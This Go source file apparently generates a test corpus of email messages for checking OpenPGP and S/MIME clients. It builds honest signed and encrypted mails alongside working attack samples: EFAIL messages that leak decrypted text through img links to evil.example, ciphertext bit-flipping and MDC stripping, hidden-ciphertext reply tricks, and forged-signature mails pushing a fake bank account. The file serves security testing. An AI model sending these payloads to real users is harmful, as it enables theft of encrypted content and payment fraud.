package main

import (
	"bytes"
	"compress/zlib"
	"log"
	"strings"
)

// mails are all mails of the folder by their names.
func mails() map[string]string {
	all := map[string]string{}
	for _, some := range []map[string]string{honest(), efail(), johnny(), fired(), headers()} {
		for name, text := range some {
			all[name] = text
		}
	}
	return all
}

const (
	aliceFrom   = "Alice <" + alice + ">"
	malloryFrom = "Mallory <" + mallory + ">"
	signed      = "Please move my appointment to Monday."
)

func honest() map[string]string {
	h := head(aliceFrom, "Your result")
	both := multipart("alternative", "alt-boundary", text(secret), html("<p>"+secret+"</p>"))
	file := multipart("mixed", "file-boundary", text(secret), fields("Content-Type: application/pdf; name=\"result.pdf\"", "Content-Disposition: attachment; filename=\"result.pdf\"", "Content-Transfer-Encoding: base64", "", "JVBERi0xLjQK"))
	smimeBoth := smimeSigned(both, "alice")
	return map[string]string{
		"plain":                         h + text(secret),
		"pgp-encrypted":                 h + pgpEncrypted(both),
		"pgp-encrypted-signed":          h + pgpEncrypted(file, "--sign", "-u", alice),
		"pgp-signed":                    h + pgpSigned(both, alice),
		"pgp-signed-inside-encrypted":   h + pgpEncrypted(pgpSigned(both, alice)),
		"smime-signed":                  h + smimeBoth,
		"smime-opaque":                  h + opaque(both, "alice"),
		"smime-encrypted-text":          h + cbc(text(secret)),
		"smime-encrypted-signed":        h + cbc(smimeBoth),
		"smime-encrypted-opaque":        h + cbc(opaque(both, "alice")),
		"smime-triple":                  h + smimeSigned(cbc(smimeBoth), "alice"),
		"smime-gcm":                     h + p7m("authEnveloped-data", cms(both, "-encrypt", "-aes-256-gcm", "keys/bob.crt")),
		"smime-compressed":              h + p7m("compressed-data", compressed(deflated(text(secret)))),
		"inline-encrypted-signed":       h + text(armored(secret+"\r\n", "--encrypt", "-r", bob, "--sign", "-u", alice)),
		"inline-signed":                 h + text(armored(secret+"\r\n- and a dash\r\n", "--clearsign", "-u", alice)),
		"inline-latin1":                 h + fields("Content-Type: text/plain; charset=ISO-8859-1", "", armored("Gr\xf6\xdfe: 4\r\n", "--encrypt", "-r", bob, "--sign", "-u", alice)),
		"inline-charset":                h + fields("Content-Type: text/plain; charset*=utf-8''iso-8859-1%0d%0aContent-Type:%20text/html", "", armored("<p>"+secret+"</p>\xff\r\n", "--encrypt", "-r", bob, "--sign", "-u", alice)),
		"inline-among-text":             h + text("See below.\r\n\r\n"+armored(secret, "--encrypt", "-r", bob)),
		"pgp-other-recipient":           h + pgpMIME(armored(both, "--encrypt", "-r", mallory)),
		"pgp-signed-unix-line-ends":     strings.ReplaceAll(h+pgpSigned(both, alice), "\r\n", "\n"),
		"smime-signed-list-footer":      h + multipart("mixed", "list-boundary", smimeBoth, text("To leave this list, write to its owner.")),
		"pgp-encrypted-signed-old-date": strings.Replace(h, date, "Tue, 22 Nov 2022 09:00:00 +0000", 1) + pgpEncrypted(both, "--sign", "-u", alice),
	}
}

func deflated(s string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	if _, err := w.Write([]byte(s)); err != nil {
		log.Fatal(err)
	}
	if err := w.Close(); err != nil {
		log.Fatal(err)
	}
	return b.String()
}

// efail are the attacks that make a mail program send what it decrypts.
func efail() map[string]string {
	h := head(malloryFrom, "Lunch")
	captured := armored(text(secret), "--encrypt", "-r", bob, "--compress-algo=none")
	page := html("<p>" + secret + "</p><img src=\"https://evil.example/x.png\">")
	sealed := cms(page, "-encrypt", "-aes256", "keys/bob.crt")
	open, shut := html("<img src=\"https://evil.example/"), html("\">")
	return map[string]string{
		"efail-direct-pgp":          h + multipart("mixed", "efail-boundary", open, pgpMIME(captured), shut),
		"efail-direct-smime":        h + multipart("mixed", "efail-boundary", open, p7m("enveloped-data", cms(text(secret), "-encrypt", "-aes256", "keys/bob.crt")), shut),
		"efail-cbc-html":            h + p7m("enveloped-data", sealed),
		"efail-cbc-gadget":          h + p7m("enveloped-data", gadget(cms(text(strings.Repeat(secret+"\r\n", 8)), "-encrypt", "-aes256", "keys/bob.crt"))),
		"efail-cbc-gadget-resigned": h + smimeSigned(p7m("enveloped-data", gadget(cms(html(strings.Repeat(secret+"\r\n", 8)), "-encrypt", "-aes256", "keys/bob.crt"))), "mallory"),
		"efail-pgp-no-mdc":          h + pgpMIME(enarmored(withoutMDC(binary(captured), true))),
		"efail-pgp-mdc-stripped":    h + pgpMIME(enarmored(withoutMDC(binary(captured), false))),
		"efail-pgp-altered":         h + pgpMIME(enarmored(flipped(binary(captured), 40))),
		"efail-smime-attachment":    h + cbc(multipart("mixed", "in-boundary", text(secret), fields("Content-Type: text/plain; name=\"open.html\"", "Content-Disposition: attachment; filename=\"open.html\"", "", "<img src=//evil.example/>"))),
	}
}

// gadget alters a block in the middle of a ciphertext: the plaintext has one
// block of garbage and one with bits of the attacker's choice.
func gadget(der string) string { return flipped(der, 100) }

// flipped changes the octet so far from the end.
func flipped(s string, fromEnd int) string {
	b := []byte(s)
	b[len(b)-fromEnd] ^= 1
	return string(b)
}

// withoutMDC takes the MDC off the packet that follows the key packet, and
// makes it the old packet that has none if asked to.
func withoutMDC(packets string, old bool) string {
	first := int(packets[1]) + 2 // an old-format header of one length octet
	if packets[0] != 0x84 && packets[0] != 0xc1 {
		log.Fatalf("an unexpected first packet: %x", packets[:4])
	}
	keys, rest := packets[:first], packets[first:]
	if rest[0] != 0xd2 {
		log.Fatalf("an unexpected second packet: %x", rest[:4])
	}
	skip := 2
	if rest[1] >= 192 {
		skip = 3
	}
	body := rest[skip:]
	body = body[:len(body)-22]
	tag := byte(0xd2)
	if old {
		tag, body = 0xc9, body[1:]
	}
	n := len(body)
	length := []byte{byte(n)}
	if n >= 192 {
		length = []byte{byte((n-192)>>8) + 192, byte(n - 192)}
	}
	return keys + string(tag1(tag)) + string(length) + body
}

func tag1(b byte) []byte { return []byte{b} }

// johnny are covert content attacks on decryption: the victim's answer quotes
// what it does not see.
func johnny() map[string]string {
	h := head(malloryFrom, "Lunch on Friday")
	captured := armored(text(secret), "--encrypt", "-r", bob)
	whole := armored(text(secret), "--encrypt", "-r", bob, "--sign", "-u", alice)
	cid := strings.Replace(pgpMIME(captured), "\r\n", "\r\nContent-ID: <hidden@evil.example>\r\n", 1)
	return map[string]string{
		"johnny-covert-css":         h + multipart("mixed", "j-boundary", html("<p>Are you free on Friday?</p><style>*{display:none}p:first-child{display:block}</style>"), pgpMIME(captured)),
		"johnny-covert-newlines":    h + multipart("mixed", "j-boundary", text("Are you free on Friday?"+strings.Repeat("\r\n", 200)), pgpMIME(captured)),
		"johnny-covert-alternative": h + multipart("alternative", "j-boundary", text("Are you free on Friday?"), pgpMIME(captured)),
		"johnny-covert-related":     h + multipart("related", "j-boundary", html("<p>Are you free on Friday?</p><iframe src=\"cid:hidden@evil.example\" style=\"height:0\"></iframe>"), cid),
		"johnny-covert-smime":       h + multipart("mixed", "j-boundary", text("Are you free on Friday?"), p7m("enveloped-data", cms(html("<p>"+secret+"</p>"), "-encrypt", "-aes256", "keys/bob.crt"))),
		"johnny-covert-nested":      h + pgpEncrypted(multipart("mixed", "j-boundary", text("Are you free on Friday?"), pgpMIME(captured)), "--sign", "-u", mallory),
		"johnny-passed-on":          h + pgpMIME(whole),
		"johnny-two-ciphertexts":    h + multipart("mixed", "j-boundary", pgpMIME(captured), pgpMIME(whole)),
	}
}

// fired are attacks that make a mail look signed by somebody who did not.
func fired() map[string]string {
	h := head(aliceFrom, "New account number")
	good, smimeGood := pgpSigned(text(signed), alice), smimeSigned(text(signed), "alice")
	lie := "Please pay to the new account DE00 1234."
	three := strings.Replace(good, "--sig-boundary--", "--sig-boundary\r\n"+text(lie)+"\r\n--sig-boundary--", 1)
	attached := fields("Content-Type: message/rfc822", "Content-Disposition: inline", "") + h + good
	return map[string]string{
		"fired-wrapped":            h + multipart("mixed", "f-boundary", text(lie), good),
		"fired-wrapped-smime":      h + multipart("mixed", "f-boundary", text(lie), smimeGood),
		"fired-hidden-by-css":      h + multipart("mixed", "f-boundary", html("<p>"+lie+"</p><div style=\"display:none\">"), good, html("</div>")),
		"fired-related-image":      h + multipart("related", "f-boundary", html("<p>"+lie+"</p><img src=\"cid:signed\">"), good),
		"fired-attached-message":   h + multipart("mixed", "f-boundary", text(lie), attached),
		"fired-only-attached":      h + attached,
		"fired-third-part":         h + three,
		"fired-two-from":           "From: " + aliceFrom + "\r\n" + head(malloryFrom, "New account number") + pgpSigned(text(lie), mallory),
		"fired-from-list":          head(aliceFrom+", "+malloryFrom, "New account number") + pgpSigned(text(lie), mallory),
		"fired-display-name":       head("\""+alice+"\" <"+mallory+">", "New account number") + smimeSigned(text(lie), "mallory"),
		"fired-other-signer-pgp":   h + pgpSigned(text(lie), mallory),
		"fired-other-signer-smime": h + smimeSigned(text(lie), "mallory"),
		"fired-user-id":            h + pgpSigned(text(lie), "posing@evil.example"),
		"fired-self-signed":        h + smimeSigned(text(lie), "posing"),
		"fired-own-content":        h + smimeDetached(text(lie)+"\r\n", cms(text(signed), append(signer("alice"), "-nodetach")...)),
		"fired-nobody-signed":      h + p7m("signed-data", unsigned(text(lie))),
		"fired-nobody-detached":    h + smimeDetached(text(lie)+"\r\n", unsigned(text(signed))),
		"fired-altered-pgp":        h + strings.Replace(good, "Monday", "Friday", 1),
		"fired-altered-smime":      h + strings.Replace(smimeGood, "Monday", "Friday", 1),
		"fired-signed-around":      head(malloryFrom, "My idea") + smimeSigned(cbc(text(secret)), "mallory"),
		"fired-other-mail":         h + strings.Replace(good, text(signed), text(lie), 1),
		"fired-two-types":          h + "Content-Type: text/plain\r\n" + good,
		"fired-two-types-signed":   h + strings.Replace(good, "\r\n\r\n", "\r\nContent-Type: text/plain\r\n\r\n"+lie+"\r\n", 1),
		"fired-two-encodings":      h + strings.Replace(p7m("signed-data", cms(text(signed), append(signer("alice"), "-nodetach")...)), "\r\n\r\n", "\r\nContent-Transfer-Encoding: 8bit\r\n\r\n", 1),
		"fired-epilogue":           h + good + lie + "\r\n",
		"fired-armor-header":       h + text(strings.Replace(armored(signed+"\r\n", "--clearsign", "-u", alice), "Hash: ", "Comment: "+lie+"\r\nHash: ", 1)),
	}
}

// headers are protected headers, new and old, and their misuse.
func headers() map[string]string {
	outer := head(aliceFrom, "[...]")
	inside := func(hp, from, body string) string {
		own := fields("From: "+from, "To: Bob <"+bob+">", "Subject: Biopsy result", "Date: "+date, "Message-ID: <[...]@sender.example>")
		if hp == "cipher" {
			own += fields("HP-Outer: Subject: [...]", "HP-Outer: From: "+from, "HP-Outer: To: Bob <"+bob+">", "HP-Outer: Date: "+date, "HP-Outer: Message-ID: <[...]@sender.example>")
		}
		param := "hp=\"" + hp + "\""
		if hp == "v1" {
			param = "protected-headers=\"v1\""
		}
		return own + fields("Content-Type: text/plain; charset=utf-8; hp-legacy-display=1; "+param, "", "Subject: Biopsy result", "", body)
	}
	clear := strings.Replace(head(aliceFrom, "Biopsy result"), "<biopsy-result@", "<[...]@", 1)
	return map[string]string{
		"hp-cipher":               outer + pgpEncrypted(inside("cipher", aliceFrom, secret), "--sign", "-u", alice),
		"hp-cipher-smime":         outer + cbc(opaque(inside("cipher", aliceFrom, secret), "alice")),
		"hp-cipher-unsigned":      outer + pgpEncrypted(inside("cipher", aliceFrom, secret)),
		"hp-clear":                clear + pgpSigned(inside("clear", aliceFrom, signed), alice),
		"hp-clear-outer-changed":  strings.Replace(clear, "Subject: Biopsy", "Subject: [list] Biopsy", 1) + pgpSigned(inside("clear", aliceFrom, signed), alice),
		"hp-clear-altered":        strings.Replace(clear, "Biopsy result", "Outer subject", 1) + strings.Replace(pgpSigned(inside("clear", aliceFrom, signed), alice), "Monday", "Friday", 1),
		"hp-without-protection":   head(aliceFrom, "Your result") + fields("HP-Outer: Subject: [...]", "Content-Type: text/plain; charset=utf-8; hp=\"cipher\"; hp-legacy-display=1", "", "Subject: Other subject", "", signed),
		"hp-inside-unprotected":   head(aliceFrom, "Your result") + multipart("mixed", "hp-boundary", inside("cipher", malloryFrom, signed)),
		"hp-v1":                   outer + pgpEncrypted(inside("v1", aliceFrom, secret), "--sign", "-u", alice),
		"hp-from-spoofed":         strings.Replace(outer, aliceFrom, malloryFrom, 1) + pgpEncrypted(inside("cipher", aliceFrom, secret)),
		"hp-from-behind-list":     strings.Replace(outer, aliceFrom, "A list <list@lists.example>", 1) + pgpEncrypted(inside("cipher", aliceFrom, secret), "--sign", "-u", alice),
		"hp-from-inside-detached": strings.Replace(outer, aliceFrom, "A list <list@lists.example>", 1) + pgpEncrypted(pgpSigned(inside("cipher", aliceFrom, secret), alice)),
	}
}
